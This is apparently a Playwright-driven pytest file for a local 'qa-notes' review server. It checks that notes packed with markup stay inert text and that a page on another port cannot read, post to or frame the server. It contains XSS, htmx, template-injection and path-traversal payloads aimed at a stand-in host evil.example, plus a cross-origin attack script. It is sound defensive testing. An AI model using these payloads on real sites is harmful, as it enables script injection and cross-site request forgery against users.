"""Hostile notes and pages in a real browser: nothing runs, nothing leaves, nothing is read."""

from __future__ import annotations

import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

import browsing
import pytest
from browsing import Browser
from golden.sample import NOTE, ON_PAGE_3
from playwright.sync_api import Page, expect
from site_made import files_of
from web_server import looked_at, served

from qa_notes import notes
from qa_notes.faults import Fault, Rule
from qa_notes.models import Answer, Note, Verdict

pytestmark = pytest.mark.real

ELSEWHERE = "http://evil.example"
LIVE = (
    "</textarea></title></script><script>document.title='x'</script>"
    f"<img src={ELSEWHERE} onerror=alert(1)><svg onload=alert(1)><style>*{{display:none}}</style>"
    f"<base href={ELSEWHERE}><meta http-equiv=refresh content='0;url={ELSEWHERE}'>"
    f"<link rel=stylesheet href={ELSEWHERE}><form action={ELSEWHERE}><iframe srcdoc=x></iframe>"
    f"<p hx-get={ELSEWHERE} hx-trigger=load hx-on::load=alert(1) data-act=save id=said></p>"
    f"\"' onfocus=alert(1) autofocus hx-get={ELSEWHERE} hx-trigger=load style=color:red x=\"'"
    " {{ 7*7 }} javascript:alert(1) \u2028 \u202e "
    "$\\href{javascript:alert(1)}{\\text{<img src=x>}}$"
)
STEM = "<img src=x onerror=alert(1)>'\" hx-get=x {{7*7}} %2e%2e%2f ;#?&=\\ ..}"
WEEK = """\
id: {live}
title: {live}
theme: {live}
intro: |
  {live} [x](javascript:alert(1)) ![x](http://evil.example/x.png) <script>alert(1)</script>
papers: [{{id: "2301.00001", title: {live}, categories: [{live}]}}]
"""
# What a page may hold that acts; all else of a stranger is text.
ACTING = """() => [
  ...document.querySelectorAll(
    "script:not([src*='/static/']), iframe, object, embed, base, style, svg[onload], [style]," +
    "img:not([src*='/pages/']), link:not([href*='/static/'], [href='data:,']), [http-equiv]"),
  ...[...document.querySelectorAll("*")].filter((each) => [...each.attributes].some(
    ({name, value}) => /^(on|hx-on)/.test(name)
      || /^(href|src|formaction)$/.test(name) && /^\\s*javascript:/i.test(value)
      || /^(hx-(get|post)|action)$/.test(name) && !value.startsWith("/")))
].map((each) => each.outerHTML.slice(0, 200))"""
WATCH = """document.addEventListener("securitypolicyviolation",
  ({violatedDirective, blockedURI}) => console.error(violatedDirective, blockedURI))"""


def _hostile() -> Note:
    def evil(answer: Answer, key: str) -> Answer:
        quoted = replace(ON_PAGE_3, quote=f"{LIVE} lights", section=LIVE)
        one = replace(
            *(answer,),
            question_id=key,
            question=LIVE,
            text=f"{LIVE} 12",
            evidence=(quoted,),
            model=LIVE,
            faults=(Fault(Rule.NUMBER, LIVE), Fault(Rule.REFUSED, LIVE)),
            looked_in=(LIVE,),
            verdict=Verdict.NEEDS_REVIEW,
            bank="" if key in ("summary", "abstract") else 'b"<b>',
        )
        return replace(one, history=(replace(one, text=f"{LIVE} 13", history=()),))

    assert NOTE.summary
    paper = replace(
        *(NOTE.paper,), title=LIVE, authors=(LIVE,), categories=(LIVE,), url=f"javascript:{LIVE}",
        pdf_url=f'{ELSEWHERE}/"><script>', abstract=LIVE, source=LIVE,
    )  # fmt: skip
    return replace(
        *(NOTE,),
        paper=paper,
        short_name=LIVE,
        pdf=LIVE,
        summary=evil(NOTE.summary, "summary"),
        abstract={"ja": evil(NOTE.abstract["ja"], "abstract")},
        answers=tuple(evil(one, f"q{at}'\"<i>#") for at, one in enumerate(NOTE.answers)),
    )


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """With one note, called so that its name is markup, and a week of it."""
    notes.save(_hostile(), tmp_path / "output" / "notes" / f"{STEM}.json")
    weeks = tmp_path / "question_bank" / "weeks"
    weeks.mkdir(parents=True)
    live = "'" + LIVE.replace("'", "''").replace("\u2028", "").replace("\u202e", "") + "'"
    (weeks / "2023-W01.yaml").write_text(WEEK.format(live=live), encoding="utf-8")
    return tmp_path


@contextmanager
def reviewed(browser: Browser, folder: Path) -> Iterator[tuple[Page, str]]:
    """A page that was opened as `qa-notes serve` opens it, and the secret root."""
    browser.complaints.clear()
    browser.asked.clear()
    refusals: list[str] = []
    with served(folder, "--port", "0", **looked_at(folder)), browser.page() as page:
        page.on("response", lambda told: refusals.append(told.url) if told.status > 399 else None)
        page.on("dialog", lambda dialog: browser.complaints.append(f"dialog: {dialog.message}"))
        page.add_init_script(WATCH)
        end = time.monotonic() + 20
        while not (folder / "seen.argv").exists() and time.monotonic() < end:
            time.sleep(0.05)
        page.goto((folder / "seen.html").as_uri())
        page.wait_for_url("http://127.0.0.1:*/*/")
        yield page, page.url
        # Chromium asks for it by itself where a piece of a page is opened alone.
        assert [one for one in refusals if not one.endswith("/favicon.ico")] == []


def complaints(browser: Browser) -> list[str]:
    """Of which what ended with its page, such as the events, is none; for 403 see `reviewed`."""
    usual = ("failed: http://127.0.0.1:", "error: Failed to load resource: the server responded")
    return [one for one in browser.complaints if not one.startswith(usual)]


def still(page: Page, root: str) -> None:
    """Nothing acts in it."""
    assert page.evaluate(ACTING) == []
    assert page.url.startswith(root)


def test_a_hostile_note_is_text_on_every_page(browser: Browser, folder: Path):
    with reviewed(browser, folder) as (page, root):
        paper = f"{root}papers/{quote(STEM, safe='')}"
        still(page, root)
        others = ("papers", "table", "keys", f"search?q={quote(LIVE)}", "weeks/2023-W01", "runs")
        for way in [f"{root}{other}" for other in others]:
            if page.request.get(way).ok:
                page.goto(way)
                still(page, root)
        page.goto(paper)
        title = page.title()
        assert "</script><script>" in title  # it is told, as text
        written = page.locator(".answer:has([data-act=history])")
        names = written.evaluate_all("all => all.map((each) => each.id)")
        assert len(names) == 7
        for name in names[:3]:  # summary, abstract and an answer; the others are as this one
            answer = page.locator(f'[id="{name}"]')
            for verb in ("history", "regenerate"):
                answer.locator(f"[data-act={verb}]").click()
                expect(answer.locator(".room > *")).to_be_visible()
                still(page, root)
                answer.locator(".room [data-act=close]").click()
            if answer.locator(".to-sheet").count():
                answer.locator(".to-sheet").first.click()
                expect(page.locator(".sheet-head")).to_be_visible()
                still(page, root)
            answer.locator("[data-act=edit]").click()
            expect(answer.locator(".faults, .checked p").first).to_be_visible()
            still(page, root)
            answer.locator("[data-act=cancel]").click()
            expect(answer.locator("[data-act=edit]")).to_be_visible()
        links = page.locator(f'[id="{names[2]}"] [hx-get]')
        pieces = links.evaluate_all("all => all.map((each) => each.href)")
        assert len(pieces) >= 4
        for way in dict.fromkeys(pieces):  # opened by themselves, as with the middle button
            assert page.goto(way).ok, way
            still(page, root)
        page.goto(paper)
        assert page.title() == title
    assert complaints(browser) == []
    ours = (root.rpartition("/")[0].rpartition("/")[0], "file://", "data:")
    assert [asked for asked in browser.asked if not asked.startswith(ours)] == []


def test_what_somebody_types_is_text(browser: Browser, folder: Path):
    with reviewed(browser, folder) as (page, root):
        page.goto(f"{root}papers/{quote(STEM, safe='')}")
        answer = page.locator(".answer").nth(2)
        answer.locator("[data-act=edit]").click()
        answer.locator("textarea").fill(f"typed {LIVE}")
        answer.locator("[data-act=save]").click()
        expect(answer.get_by_text("typed </textarea>").first).to_be_visible()
        still(page, root)
        page.reload()
        still(page, root)
    assert complaints(browser) == []


# A page of another port of this machine, which is the same site, and which knows the secret path.
ATTACK = """async (root) => {
  const tried = {};
  const attempt = async (name, work) => {
    try { tried[name] = await work(); } catch (error) { tried[name] = error.name; }
  };
  const form = () => new URLSearchParams({language: "en", back: "/", text: "x"});
  for (const mode of ["cors", "no-cors"]) {
    const usual = {mode, credentials: "include"};
    await attempt(`get ${mode}`, async () => (await fetch(root, usual)).text());
    await attempt(`post ${mode}`, async () => (await fetch(`${root}interface`,
      {...usual, method: "POST", body: form()})).text());
  }
  const loads = (tag, more) => new Promise((done) => {
    const made = Object.assign(document.createElement(tag), more);
    made.onload = () => done("loaded");
    made.onerror = () => done("refused");
    document.body.append(made);
  });
  await attempt("script", () => loads("script", {src: `${root}static/x/live.js`}));
  await attempt("style", () => loads("link", {rel: "stylesheet", href: `${root}static/x/web.css`}));
  await attempt("events", () => new Promise((done) => {
    const events = new EventSource(`${root}events`, {withCredentials: true});
    events.onopen = () => done("open");
    events.onerror = () => done("refused");
  }));
  await loads("iframe", {src: root});
  return tried;
}"""


def test_a_page_of_another_port_reads_posts_and_frames_nothing(
    browser: Browser, folder: Path, tmp_path_factory: pytest.TempPathFactory
):
    evil = tmp_path_factory.mktemp("evil")
    (evil / "index.html").write_text("<!DOCTYPE html><title>evil</title><form method=post>")
    with reviewed(browser, folder) as (ours, root), browsing.served(evil) as address:
        before = files_of(folder)
        page = ours.context.new_page()
        page.goto(address)
        tried = page.evaluate(ATTACK, root)
        assert set(tried.values()) == {"TypeError", "refused"}, tried
        assert len(tried) == 7
        framed = page.frames[1]
        assert framed.locator("main").count() == 0
        posting = "way => { document.forms[0].action = way; document.forms[0].submit() }"
        with page.expect_navigation() as told:
            page.evaluate(posting, f"{root}interface")
        assert told.value.status == 403
        page.goto(address)
        with page.expect_popup() as opened:
            page.evaluate("root => { window.got = window.open(root) }", root)
        assert opened.value.evaluate("() => window.opener") is None
        assert page.evaluate("() => got.closed")
        assert files_of(folder) == before
        cookies = ours.context.cookies(root)
        assert [(one["httpOnly"], one["sameSite"], one["path"]) for one in cookies] == [
            (True, "Lax", f"/{root.split('/')[3]}/")
        ]
        assert ours.context.cookies(address) == []
        assert ours.evaluate("() => document.cookie") == ""
